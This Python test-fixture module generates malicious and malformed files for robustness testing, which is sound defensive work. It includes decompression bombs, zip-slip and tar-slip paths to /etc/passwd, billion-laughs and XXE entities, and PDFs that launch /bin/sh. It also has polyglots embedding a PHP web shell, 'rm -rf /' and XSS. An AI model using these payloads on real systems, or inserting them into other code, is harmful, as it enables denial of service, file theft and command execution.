"""Malicious and broken files, grouped by attack, each generated when it is requested.

The bytes are generated with the standard library and Pillow, or built from the formats' published structure.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from functools import partial

from PIL import Image

from tests.artifacts.compound_files import doc, msg, ppt, xls
from tests.artifacts.samples import (
    SAMPLES,
    be16,
    be32,
    build_zip,
    docx,
    draw_picture,
    flac,
    iso_media,
    le32,
    mp3,
    ole2,
    open_document,
    pdf,
    wav,
    xlsx,
)

MIB = 1 << 20
ODT, SHEET = "application/vnd.oasis.opendocument.text", "xl/worksheets/sheet1.xml"
TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


@dataclass(frozen=True)
class HostileFile:
    """One malicious file: its attack, its declared name and type, and a function that generates it."""

    trick: str
    filename: str
    mime: str
    make: Callable[[], bytes]


def build_png(width: int, height: int, *extra_chunks: bytes, data: bytes = b"\0" * 64) -> bytes:
    """Return a PNG whose header declares this size, regardless of its data."""
    head = be32(width) + be32(height) + b"\x08\x02\0\0\0"
    chunks = [chunk(b"IHDR", head), *extra_chunks, chunk(b"IDAT", zlib.compress(data)), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def chunk(name: bytes, data: bytes) -> bytes:
    return be32(len(data)) + name + data + be32(zlib.crc32(name + data))


def zip_with_spaces(name: str, size: int, *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a zip archive with one entry that unpacks to `size` space characters."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as package:
        if name.startswith(("word/", "xl/", "ppt/")):
            package.writestr("[Content_Types].xml", TYPES)
        with package.open(name, "w") as entry:
            for _ in range(size // MIB):
                entry.write(b" " * MIB)
    return buffer.getvalue()


def nested(levels: int, pack: Callable[[bytes], bytes], core: bytes = b"the end") -> bytes:
    for _ in range(levels):
        core = pack(core)
    return core


def build_tar(*names: str, kind: bytes = tarfile.REGTYPE, target: str = "", size: int = 0) -> bytes:
    """Return a tar archive whose entries have this type and declare this size, but contain no data."""
    entries = []
    for name in names:
        entry = tarfile.TarInfo(name)
        entry.type, entry.linkname, entry.size = kind, target, size
        entries.append(entry.tobuf(tarfile.GNU_FORMAT))
    return b"".join(entries) + bytes(1024)


def cut_files() -> Iterator[HostileFile]:
    """Yield files of sixty formats truncated in the middle, and files of twenty formats truncated in the header."""
    binary = [file for file in SAMPLES if file.is_binary and len(file.data) > 40]
    for sample in binary[:: max(1, len(binary) // 60)][:60]:
        yield HostileFile("cut in half", sample.name, sample.mime, partial(cut, sample.data, len(sample.data) // 2))
    for sample in binary[3 :: max(1, len(binary) // 20)][:20]:
        yield HostileFile("cut in its head", sample.name, "", partial(cut, sample.data, 21))


def cut(data: bytes, length: int) -> bytes:
    return data[:length]


def mislabelled_files() -> Iterator[HostileFile]:
    """Yield valid files that are declared with another format's name and type."""
    chosen = [file for file in SAMPLES if len(file.data) > 40][::9][:26]
    for sample, disguise in zip(chosen, [*chosen[5:], *chosen[:5]], strict=True):
        yield HostileFile(f"{sample.name} as", disguise.name, disguise.mime, partial(bytes, sample.data))


# Small archives that unpack to very large files, are deeply nested, or have very many entries.
BOMBS: Mapping[str, tuple[str, str, Callable[[], bytes]]] = {
    "docx of 100 MB": ("a.docx", "", lambda: zip_with_spaces("word/document.xml", 100 * MIB)),
    "xlsx of 64 MB": ("a.xlsx", "", lambda: zip_with_spaces(SHEET, 64 * MIB)),
    "pptx of 64 MB": ("a.pptx", "", lambda: zip_with_spaces("ppt/slides/slide1.xml", 64 * MIB)),
    "odt of 64 MB": ("a.odt", ODT, lambda: zip_with_spaces("content.xml", 64 * MIB)),
    "epub of 64 MB": ("a.epub", "application/epub+zip", lambda: zip_with_spaces("a.xhtml", 64 * MIB)),
    "bzip2 in a zip": ("a.zip", "", lambda: zip_with_spaces("a", 8 * MIB, method=zipfile.ZIP_BZIP2)),
    "lzma in a zip": ("b.zip", "", lambda: zip_with_spaces("a", 8 * MIB, method=zipfile.ZIP_LZMA)),
    "gzip of 128 MB": ("a.gz", "application/gzip", lambda: gzip.compress(bytes(MIB)) * 128),
    "gzipped tar": (
        "a.tgz",
        "application/gzip",
        lambda: gzip.compress(build_tar("a", size=8 << 30)) + gzip.compress(bytes(MIB)) * 64,
    ),
    "bzip2 of 64 MB": ("a.bz2", "application/x-bzip2", lambda: bz2.compress(bytes(MIB)) * 64),
    "xz of 64 MB": ("a.xz", "application/x-xz", lambda: lzma.compress(bytes(MIB)) * 64),
    "zips in zips": ("n.zip", "", lambda: nested(60, lambda core: build_zip({"a.zip": core}))),
    "gzips in gzips": ("n.gz", "", lambda: nested(200, gzip.compress)),
    "a zip of 20,000 names": ("many.zip", "", lambda: build_zip({f"{n}.txt": b"" for n in range(20_000)})),
    "the same name 500 times": ("same.tar", "", lambda: build_tar(*["a"] * 500)),
    "svg of 40 MB": (
        "a.svgz",
        "image/svg+xml",
        lambda: gzip.compress(b"<svg>") + gzip.compress(b" " * MIB) * 40 + gzip.compress(b"</svg>"),
    ),
    "pdf stream of 100 MB": (
        "a.pdf",
        "",
        lambda: build_pdf(zlib.compress(bytes(100 * MIB), 1), b"/Filter /FlateDecode"),
    ),
    "pdf filters in filters": ("b.pdf", "", lambda: build_pdf(b"x", b"/Filter [" + b"/FlateDecode " * 5000 + b"]")),
    "png text of 64 MB": (
        "t.png",
        "",
        lambda: build_png(4, 4, chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(64 * MIB), 1))),
    ),
    "png profile of 64 MB": (
        "p.png",
        "",
        lambda: build_png(4, 4, chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(64 * MIB), 1))),
    ),
    "gif of 3,000 frames": ("f.gif", "image/gif", lambda: frames(3000)),
}


def build_pdf(
    stream: bytes, stream_entries: bytes = b"", *, catalog: bytes = b"/Pages 2 0 R", pages: bytes = b""
) -> bytes:
    """Return a PDF with one page, drawn by the content stream `stream`."""
    objects = [
        b"<< /Type /Catalog %s >>" % catalog,
        pages or b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R >>",
        b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(stream), stream_entries, stream),
    ]
    document, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(document))
        document += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    start = len(document)
    document += b"xref\n0 5\n0000000000 65535 f \n%s" % table
    return document + b"trailer << /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start


def frames(count: int) -> bytes:
    buffer = io.BytesIO()
    images = [Image.new("P", (1, 1), n % 200) for n in range(count)]
    images[0].save(buffer, "GIF", save_all=True, append_images=images[1:], optimize=False)
    return buffer.getvalue()


# Entry names that escape the target directory or mislead a careless parser.
ESCAPES = (
    *(
        "../../../../etc/passwd",
        "/etc/passwd",
        "..\\..\\windows\\system32\\a.dll",
        "C:\\a.exe",
        "a/../../b",
        "\\\\host\\a",
    ),
    *("a\0b.txt", "con.txt", "a" * 5000, "\u202egnp.exe", "<script>alert(1)</script>", "{{7*7}}", "%s%n%x", "\r\nX: y"),
)


def escaping_archives() -> Iterator[HostileFile]:
    """Yield archives whose entry names, links or devices point outside the archive.

    Nothing is ever unpacked to disk.
    """
    for number, name in enumerate(ESCAPES):
        yield HostileFile("zip slip", f"slip{number}.zip", "application/zip", partial(build_zip, {name: b"x"}))
    for number, name in enumerate(ESCAPES[:6]):
        yield HostileFile("tar slip", f"slip{number}.tar", "application/x-tar", partial(build_tar, name))
    kinds = {b"2": "symbolic link", b"1": "hard link", b"3": "character device", b"4": "block device", b"6": "fifo"}
    for kind, name in kinds.items():
        make = partial(build_tar, "a", kind=kind, target="/etc/passwd")
        yield HostileFile(name, f"{name}.tar", "application/x-tar", make)
    yield HostileFile("a size of a terabyte", "huge.tar", "application/x-tar", partial(build_tar, "a", size=1 << 40))


def wide_images() -> Mapping[str, tuple[str, bytes]]:
    """Return images with impossible sizes in their headers."""
    jpeg = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xc0\0\x11\x08\xff\xff\xff\xff\3\1\x11\0\2\x11\0\3\x11\0"
    bmp = b"BM" + le32(1 << 30) + bytes(4) + le32(54) + le32(40)
    return {
        "30k.png": ("image/png", build_png(30_000, 30_000)),
        "31bit.png": ("image/png", build_png(2**31 - 1, 2**31 - 1)),
        "32bit.png": ("image/png", build_png(2**32 - 1, 2**32 - 1)),
        "nothing.png": ("image/png", build_png(0, 0)),
        "line.png": ("image/png", build_png(1, 2**31 - 1)),
        "broken.png": ("image/png", build_png(8, 8)[:40] + b"\xff" * 200),
        "wide.gif": ("image/gif", b"GIF89a\xff\xff\xff\xff\xf7\0\0" + bytes(768) + b",\0\0\0\0\xff\xff\xff\xff\0\x0b"),
        "wide.jpg": ("image/jpeg", jpeg),
        "endless.jpg": ("image/jpeg", b"\xff\xd8" + b"\xff\xe0\0\2" * 100_000),
        "negative.bmp": ("image/bmp", bmp + struct.pack("<ii", -1, -(2**31)) + bytes(60)),
        "wide.bmp": ("image/bmp", bmp + struct.pack("<ii", 2**31 - 1, 2**31 - 1) + b"\1\0\x18\0" + bytes(60)),
        "wide.webp": ("image/webp", b"RIFF\x20\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xff" * 6 + bytes(8)),
        "loop.tif": ("image/tiff", b"II*\0\x08\0\0\0\0\0\x08\0\0\0"),
        "many.tif": ("image/tiff", b"II*\0\x08\0\0\0\xff\xff" + b"\0\1\4\0\xff\xff\xff\xff\xff\xff\xff\xff" * 400),
        "wide.psd": (
            "image/vnd.adobe.photoshop",
            b"8BPS\0\1" + bytes(6) + b"\0\3" + b"\0\4\x93\xe0" * 2 + b"\0\x08\0\3",
        ),
        "wide.ico": ("image/x-icon", b"\0\0\1\0\xff\xff" + b"\0\0\0\0\1\0\x20\0\xff\xff\xff\x7f\x16\0\0\0" * 50),
        "wide.icns": ("image/icns", b"icns\xff\xff\xff\xffic10\xff\xff\xff\xff" + bytes(40)),
        "wide.heic": ("image/heic", iso_media(b"heic")[:40] + b"\xff" * 100),
        "wide.avif": ("image/avif", be32(24) + b"ftypavif" + be32(0) + b"avifmif1" + be32(1) + b"meta" + b"\xff" * 8),
        "wide.jp2": ("image/jp2", b"\0\0\0\x0cjP  \r\n\x87\n" + be32(45) + b"jp2h" + be32(22) + b"ihdr" + b"\xff" * 14),
        "wide.pcx": ("image/x-pcx", b"\x0a\5\1\x08" + b"\0\0\0\0\xff\xff\xff\xff" + bytes(116)),
    }


# "Billion laughs": each entity contains the previous one ten times.
BILLION_LAUGHS = (
    b'<!DOCTYPE d [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]>"
)
# Entities that make a careless parser read a local file or call a local server.
EXTERNAL_ENTITIES = (
    b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://127.0.0.1:9/x"> %y;]>'
)
# One long XML entity, referenced thousands of times.
QUADRATIC_XML = b'<!DOCTYPE d [<!ENTITY a "' + b"a" * 50_000 + b'">]>'
DEEPLY_NESTED_XML = b"<a>" * 50_000


def xml_bombs() -> Iterator[HostileFile]:
    """Yield XML bombs, external entities and deep nesting, as plain files and inside every office format."""
    kinds = {"laughs": BILLION_LAUGHS + b"<d>&a9;</d>", "external": EXTERNAL_ENTITIES + b"<d>&x;</d>"}
    kinds |= {"quadratic": QUADRATIC_XML + b"<d>" + b"&a;" * 5000 + b"</d>", "deep": DEEPLY_NESTED_XML}
    for name, body in kinds.items():
        yield HostileFile(name, f"{name}.xml", "application/xml", partial(bytes, body))
        yield HostileFile(name, f"{name}.svg", "image/svg+xml", partial(bytes, b"<svg>" + body))
        yield HostileFile(name, f"{name}.html", "text/html", partial(bytes, body))
        for part, file in {
            "word/document.xml": "docx",
            SHEET: "xlsx",
            "ppt/slides/slide1.xml": "pptx",
            "content.xml": "odt",
        }.items():
            entries = {"[Content_Types].xml": TYPES} if file != "odt" else {"mimetype": ODT.encode()}
            yield HostileFile(name, f"{name}.{file}", "", partial(build_zip, {**entries, part: body}))


# PDFs with broken, circular or very large structures.
BROKEN_PDFS: Mapping[str, Callable[[], bytes]] = {
    "no table": lambda: pdf("x").split(b"xref")[0],
    "table of itself": lambda: pdf("x").replace(b"trailer <<", b"trailer << /Prev 9 "),
    "endless table": lambda: b"%PDF-1.4\nxref\n0 99999999999\n" + b"0000000000 65535 f \n" * 1000,
    "pages in pages": lambda: build_pdf(b"", pages=b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"),
    "a billion pages": lambda: build_pdf(b"", pages=b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>"),
    "a page 9,000 times": lambda: build_pdf(
        b"", pages=b"<< /Type /Pages /Kids [%s] /Count 9000 >>" % (b"3 0 R " * 9000)
    ),
    "no catalogue": lambda: build_pdf(b"", catalog=b"/Pages 99 0 R"),
    "catalogue of itself": lambda: build_pdf(b"", catalog=b"/Pages 1 0 R"),
    "deep brackets": lambda: build_pdf(b"[" * 50_000),
    "deep dictionaries": lambda: b"%PDF-1.4\n1 0 obj\n" + b"<</A" * 20_000,
    "start before the file": lambda: pdf("x").replace(b"startxref\n", b"startxref\n-"),
    "start behind the file": lambda: pdf("x").replace(b"startxref\n", b"startxref\n999999"),
    "a script": lambda: build_pdf(b"", catalog=b"/Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "a launch": lambda: build_pdf(b"", catalog=b"/Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) >>"),
    "a page as wide as the world": lambda: pdf("x").replace(b"MediaBox [0 0", b"MediaBox [0 -9999999999999"),
    "an unknown lock": lambda: pdf("x").replace(b"trailer <<", b"trailer << /Encrypt << /Filter /Unknown /V 99 >> "),
    "an image of no filter": lambda: build_pdf(
        b"x" * 99, b"/Filter /JBIG2Decode /DecodeParms << /JBIG2Globals 4 0 R >>"
    ),
    "only a head": lambda: b"%PDF-1.7",
    "a head and noughts": lambda: b"%PDF-1.7" + bytes(100_000),
}

# Files that look like two formats at the same time.
POLYGLOTS: Mapping[str, Callable[[], bytes]] = {
    "gif.html": lambda: b"GIF89a/*<html><script>alert(1)</script>*/=1;",
    "pdf.zip": lambda: pdf("x") + build_zip({"a": b"b"}),
    "zip.pdf": lambda: build_zip({"a": b"b"}) + pdf("x"),
    "png.zip": lambda: draw_picture("PNG") + build_zip({"a.exe": b"MZ"}),
    "png.php": lambda: draw_picture("PNG") + b"<?php system($_GET[0]); ?>",
    "jpg.js": lambda: b"\xff\xd8\xff\xe0/*" + draw_picture("JPEG")[6:] + b"*/=alert(1)",
    "docx.pdf": lambda: b"%PDF-1.7\n" + docx("x"),
    "mp3.zip": lambda: mp3() + build_zip({"a": b"b"}),
    "html.pdf": lambda: b"<html>" + pdf("x") + b"</html>",
    "svg.html": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>',
    "tar.png": lambda: build_tar("\x89PNG\r\n\x1a\n") + draw_picture("PNG"),
    "exe.pdf": lambda: b"MZ" + bytes(58) + le32(64) + b"PE\0\0" + pdf("x"),
    "sh.png": lambda: b"#!/bin/sh\nrm -rf /\n" + draw_picture("PNG"),
    "rtf.docx": lambda: b"{\\rtf1 " + docx("x"),
    "ole.html": lambda: ole2("WordDocument") + b"<html><script>1</script>",
}

# Degenerate content in many formats: NULs, unbalanced brackets, endless structures, damaged structures.
ODD_BYTES: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "noughts.txt": ("text/plain", lambda: bytes(70_000)),
    "one nought.txt": ("text/plain", lambda: b"\0"),
    "words and noughts.txt": ("text/plain", lambda: b"word\0" * 20_000),
    "every other.txt": ("text/plain", lambda: b"w\0o\0" * 20_000 + b"x"),
    "escapes.txt": ("text/plain", lambda: b"\x1b[2J\x1b]0;title\x07" * 5000),
    "turned.txt": ("text/plain", lambda: "\u202eabc\u2066\u2069\u200f".encode() * 4000),
    "stacked.txt": ("text/plain", lambda: ("e" + "\u0301" * 20_000).encode()),
    "half pairs.txt": ("text/plain; charset=utf-16", lambda: b"\xff\xfe" + b"\0\xd8" * 20_000),
    "shifts.txt": ("text/plain; charset=iso-2022-jp", lambda: b"\x1b$B" * 20_000),
    "tildes.txt": ("text/plain; charset=hz", lambda: b"~{" * 20_000),
    "marks.txt": ("text/plain", lambda: b"\xef\xbb\xbf" * 20_000),
    "one line.csv": ("text/csv", lambda: b'a,"' * 300_000),
    "brackets.json": ("application/json", lambda: b"[" * 200_000),
    "a number.json": ("application/json", lambda: b"1" * 200_000),
    "cells.ipynb": ("application/x-ipynb+json", lambda: b'{"cells":' + b'[{"a":' * 20_000),
    "wild cells.ipynb": ("", lambda: json.dumps({"nbformat": 4, "cells": [None, 7, {"source": {}}] * 500}).encode()),
    "elements.html": ("text/html", lambda: b"<div>" * 100_000),
    "attribute.html": ("text/html", lambda: b"<p a='" + b"x" * 500_000),
    "entities.html": ("text/html", lambda: b"&#99999999999;&" * 30_000),
    "braces.rtf": ("application/rtf", lambda: b"{\\rtf1" + b"{" * 100_000),
    "bin.rtf": ("application/rtf", lambda: b"{\\rtf1\\bin2147483647 x}"),
    "letters.rtf": ("application/rtf", lambda: b"{\\rtf1" + b"\\u-99999999?" * 20_000 + b"}"),
    "parts.eml": ("message/rfc822", lambda: mail_in_mail(300)),
    "head.eml": ("message/rfc822", lambda: b"Subject: " + b"=?utf-8?b?" * 30_000 + b"\n\nx"),
    "lines.eml": ("message/rfc822", lambda: b"From: a\n" + b"X: y\n" * 100_000 + b"\nx"),
    "base64.eml": ("message/rfc822", lambda: b"From: a\nContent-Transfer-Encoding: base64\n\n" + b"=" * 90_000),
    "wild.mht": ("multipart/related", lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n" + b"--" * 9000),
    "loop.doc": ("application/msword", lambda: ole2("WordDocument")[:512] + b"\0\0\0\0" * 128 + bytes(2000)),
    "sectors.doc": ("application/msword", lambda: ole2("x")[:30] + b"\xff\xff" + ole2("x")[32:]),
    "damaged.doc": ("application/msword", lambda: damage(doc("Hello"))),
    "damaged.ppt": ("application/vnd.ms-powerpoint", lambda: damage(ppt("a", "b"))),
    "damaged.msg": ("application/vnd.ms-outlook", lambda: damage(msg("a", "b", "c"))),
    "damaged.xls": ("application/vnd.ms-excel", lambda: damage(xls(45_000, "a"))),
    "damaged.xlsx": ("", lambda: damage(xlsx({"a": [["1"]]}))),
    "damaged.odt": ("", lambda: damage(open_document("text"))),
    "endless.mp3": ("audio/mpeg", lambda: b"ID3\4\0\0\x7f\x7f\x7f\x7f" + bytes(3000)),
    "endless.wav": ("audio/wav", lambda: wav()[:4] + b"\xff\xff\xff\xff" + wav()[8:40] + b"\xff\xff\xff\xff"),
    "no rate.wav": ("audio/wav", lambda: wav()[:24] + bytes(8) + wav()[32:]),
    "blocks.flac": ("audio/flac", lambda: flac()[:4] + b"\x7f\0\0\0" * 30_000),
    "boxes.mp4": ("video/mp4", lambda: iso_media(b"isom")[:24] + b"\0\0\0\x08moov" * 20_000),
    "endless.mp4": ("video/mp4", lambda: iso_media(b"isom")[:24] + b"\0\0\0\1mdat" + b"\xff" * 8),
    "endless.webm": ("video/webm", lambda: b"\x1aE\xdf\xa3\x01" + b"\xff" * 7 + bytes(2000)),
    "lists.avi": ("video/x-msvideo", lambda: b"RIFF\xff\xff\xff\xffAVI " + b"LIST\xff\xff\xff\x7fhdrl" * 9000),
    "directory.zip": ("application/zip", lambda: b"PK\x05\x06" + b"\xff" * 18),
    "ends.zip": ("application/zip", lambda: b"PK\3\4" + bytes(26) + b"PK\5\6" * 20_000),
    "overlap.zip": ("application/zip", lambda: overlapping(build_zip({"a": b"x" * 99}))),
    "locked.zip": ("application/zip", lambda: build_zip({"a": b"x"}).replace(b"\x14\0\0\0", b"\x14\0\x01\0")),
    "pages.sqlite": ("", lambda: b"SQLite format 3\0" + be16(65_535) + b"\xff" * 500),
    "font.ttf": ("font/ttf", lambda: b"\0\1\0\0\xff\xff" + b"\xff" * 5000),
    "empty.png": ("image/png", lambda: b""),
}


def mail_in_mail(levels: int) -> bytes:
    heads = (b"Content-Type: multipart/mixed; boundary=%d\n\n--%d\n" % (n, n) for n in range(levels))
    return b"From: a\nMIME-Version: 1.0\n" + b"".join(heads) + b"x"


def damage(data: bytes) -> bytes:
    """Invert every fortieth byte, except in the first 64 bytes."""
    return bytes(byte ^ 0xFF if position % 40 == 7 and position > 64 else byte for position, byte in enumerate(data))


def overlapping(data: bytes) -> bytes:
    """Repeat the entry in a zip archive's central directory three hundred times."""
    start = data.rindex(b"PK\1\2")
    end = data.rindex(b"PK\5\6")
    entry = data[start:end]
    tail = b"PK\5\6\0\0\0\0" + struct.pack("<HHII", 300, 300, 300 * len(entry), start) + b"\0\0"
    return data[:start] + entry * 300 + tail


def list_files(trick: str, table: Mapping[str, tuple[str, Callable[[], bytes]]]) -> list[HostileFile]:
    return [HostileFile(trick, name, mime, make) for name, (mime, make) in table.items()]


FAMILIES: Mapping[str, list[HostileFile]] = {
    "cut": list(cut_files()),
    "mislabelled": list(mislabelled_files()),
    "bombs": [HostileFile(trick, *rest) for trick, rest in BOMBS.items()],
    "escapes": list(escaping_archives()),
    "pixels": list_files(
        "pixels", {name: (mime, partial(bytes, data)) for name, (mime, data) in wide_images().items()}
    ),
    "xml": list(xml_bombs()),
    "pdfs": [
        HostileFile(trick, f"{n}.pdf", "application/pdf", make) for n, (trick, make) in enumerate(BROKEN_PDFS.items())
    ],
    "polyglots": [HostileFile("polyglot", name, "", make) for name, make in POLYGLOTS.items()],
    "bytes": list_files("odd bytes", ODD_BYTES),
}
